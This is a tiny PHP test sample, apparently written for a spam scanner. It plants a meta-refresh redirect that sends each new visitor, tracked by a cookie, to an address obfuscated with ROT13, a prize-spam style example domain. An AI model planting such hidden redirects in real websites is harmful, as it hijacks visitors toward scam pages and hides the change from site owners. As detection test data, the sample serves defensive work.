<?php
// spamtrace test sample (written for the scanner tests, never run): a meta refresh in the
// page's own HTML sends each new visitor on to an address PHP decodes as it writes the page.
if (!isset($_COOKIE['seen'])) {
    setcookie('seen', '1', time() + 86400);
    ?>
<meta http-equiv="refresh" content="0; URL='<?php echo str_rot13('uggc://jva-cevmr.rknzcyr.arg/tb'); ?>'">
<?php
}
